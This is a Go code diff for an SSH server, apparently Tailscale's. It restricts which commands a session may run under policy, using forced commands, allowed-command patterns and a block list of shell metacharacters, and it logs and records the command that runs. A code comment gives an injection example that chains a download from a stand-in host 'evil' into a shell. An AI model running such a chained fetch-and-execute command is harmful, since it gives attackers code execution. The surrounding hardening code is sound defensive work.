@@ -609,15 +609,104 @@ func (c *conn) handleSessionPostSSHAuth(s ssh.Session) {
 		s.Exit(1)
 		return
 	}
+	rawCmd, err := sessionCommand(c.finalAction, s.Subsystem(), s.RawCommand())
+	if err != nil {
+		c.mu.Lock()
+		c.logf("denied command %q from %v as ssh-user %q: %v", s.RawCommand(), c.info.uprof.LoginName, c.localUser.Username, err)
+		c.mu.Unlock()
+		metricCommandDenied.Add(1)
+		fmt.Fprintf(s.Stderr(), "%v\r\n", err)
+		s.Exit(1)
+		return
+	}
 
 	ss := c.newSSHSession(s)
+	ss.rawCmd = rawCmd // as restricted by policy
 	c.mu.Lock()
 	ss.logf("handling new SSH connection from %v (%v) to ssh-user %q", c.info.uprof.LoginName, c.info.src.IP(), c.localUser.Username)
 	ss.logf("access granted to %v as ssh-user %q", c.info.uprof.LoginName, c.localUser.Username)
 	c.mu.Unlock()
+	if ss.forcedCommand() {
+		metricForcedCommand.Add(1)
+		ss.logf("running forced command %q; requested %q", rawCmd, s.RawCommand())
+	} else if rawCmd != "" {
+		ss.logf("running command %q", rawCmd)
+	}
 	ss.run()
 }
 
+// sessionCommand returns the command line to run for a session accepted
+// by action whose client requested subsystem and rawCmd, or an error if
+// action doesn't permit the session. An empty command means an
+// interactive shell, or SFTP if subsystem is "sftp".
+func sessionCommand(action *tailcfg.SSHAction, subsystem, rawCmd string) (string, error) {
+	restricted := action.ForceCommand != "" || len(action.AllowedCommands) > 0
+	if restricted && subsystem == "sftp" {
+		return "", errors.New("SFTP is not permitted by policy")
+	}
+	if action.ForceCommand != "" {
+		return action.ForceCommand, nil
+	}
+	if len(action.AllowedCommands) == 0 {
+		return rawCmd, nil
+	}
+	if rawCmd == "" {
+		return "", errors.New("interactive shells are not permitted by policy")
+	}
+	// The command line is run by the user's shell, so a pattern like
+	// "rsync --server *" would otherwise also match (and then run)
+	// "rsync --server x; curl evil | sh". Refuse anything the shell
+	// could treat as more than a single simple command.
+	if i := strings.IndexFunc(rawCmd, isShellMetachar); i >= 0 {
+		return "", fmt.Errorf("command %q contains %q, which is not permitted by policy", rawCmd, rawCmd[i])
+	}
+	for _, pat := range action.AllowedCommands {
+		if matchCommand(pat, rawCmd) {
+			return rawCmd, nil
+		}
+	}
+	return "", fmt.Errorf("command %q is not permitted by policy", rawCmd)
+}
+
+// isShellMetachar reports whether r can separate, chain, redirect or
+// substitute commands when a command line is interpreted by a POSIX
+// shell.
+func isShellMetachar(r rune) bool {
+	switch r {
+	case ';', '|', '&', '$', '(', ')', '<', '>', '`', '\n', '\r':
+		return true
+	}
+	return r < ' ' || r == 0x7f
+}
+
+// matchCommand reports whether the command line cmd matches pattern, in
+// which '*' matches any (possibly empty) run of characters and '?' any
+// single character. Unlike path.Match, '*' also matches '/'.
+func matchCommand(pattern, cmd string) bool {
+	// Greedy matching with backtracking to the most recent '*'.
+	var p, c int
+	star, starC := -1, 0
+	for c < len(cmd) {
+		switch {
+		case p < len(pattern) && (pattern[p] == '?' || pattern[p] == cmd[c]):
+			p++
+			c++
+		case p < len(pattern) && pattern[p] == '*':
+			star, starC = p, c
+			p++
+		case star >= 0:
+			starC++
+			p, c = star+1, starC
+		default:
+			return false
+		}
+	}
+	for p < len(pattern) && pattern[p] == '*' {
+		p++
+	}
+	return p == len(pattern)
+}
+
 // resolveTerminalActionLocked either returns action0 (if it's Accept or Reject) or
 // else loops, fetching new SSHActions from the control plane.
 //
@@ -757,6 +846,7 @@ type sshSession struct {
 	ctx           *sshContext // implements context.Context
 	conn          *conn
 	agentListener net.Listener // non-nil if agent-forwarding requested+allowed
+	rawCmd        string       // command line to run; empty for a shell
 
 	// initialized by launchProcess:
 	cmd    *exec.Cmd
@@ -770,6 +860,12 @@ type sshSession struct {
 	exitOnce sync.Once
 }
 
+// forcedCommand reports whether the session runs the policy's
+// ForceCommand rather than what the client requested.
+func (ss *sshSession) forcedCommand() bool {
+	return ss.conn.finalAction.ForceCommand != ""
+}
+
 func (ss *sshSession) vlogf(format string, args ...interface{}) {
 	if sshVerboseLogging {
 		ss.logf(format, args...)
@@ -785,6 +881,7 @@ func (c *conn) newSSHSession(s ssh.Session) *sshSession {
 		ctx:      newSSHContext(),
 		conn:     c,
 		logf:     logger.WithPrefix(c.srv.logf, "ssh-session("+sharedID+"): "),
+		rawCmd:   s.RawCommand(),
 	}
 }
 
@@ -1321,24 +1418,30 @@ type CastHeader struct {
 		Width     int               `json:"width"`
 		Height    int               `json:"height"`
 		Timestamp int64             `json:"timestamp"`
+		Command   string            `json:"command,omitempty"`
 		Env       map[string]string `json:"env"`
 	}
+	env := map[string]string{
+		"TERM": term,
+		// TODO(bradiftz): anything else important?
+		// including all seems noisey, but maybe we should
+		// for auditing. But first need to break
+		// launchProcess's startWithStdPipes and
+		// startWithPTY up so that they first return the cmd
+		// without starting it, and then a step that starts
+		// it. Then we can (1) make the cmd, (2) start the
+		// recording, (3) start the process.
+	}
+	if ss.forcedCommand() {
+		env["SSH_ORIGINAL_COMMAND"] = ss.RawCommand()
+	}
 	j, err := json.Marshal(CastHeader{
 		Version:   2,
 		Width:     w.Width,
 		Height:    w.Height,
 		Timestamp: now.Unix(),
-		Env: map[string]string{
-			"TERM": term,
-			// TODO(bradiftz): anything else important?
-			// including all seems noisey, but maybe we should
-			// for auditing. But first need to break
-			// launchProcess's startWithStdPipes and
-			// startWithPTY up so that they first return the cmd
-			// without starting it, and then a step that starts
-			// it. Then we can (1) make the cmd, (2) start the
-			// recording, (3) start the process.
-		},
+		Command:   ss.rawCmd,
+		Env:       env,
 	})
 	if err != nil {
 		f.Close()
@@ -1454,4 +1557,6 @@ func envEq(a, b string) bool {
 	metricPolicyChangeKick     = clientmetric.NewCounter("ssh_policy_change_kick")
 	metricSFTP                 = clientmetric.NewCounter("ssh_sftp_requests")
 	metricLocalPortForward     = clientmetric.NewCounter("ssh_local_port_forward_requests")
+	metricForcedCommand        = clientmetric.NewCounter("ssh_forced_command_sessions")
+	metricCommandDenied        = clientmetric.NewCounter("ssh_command_denied")
 )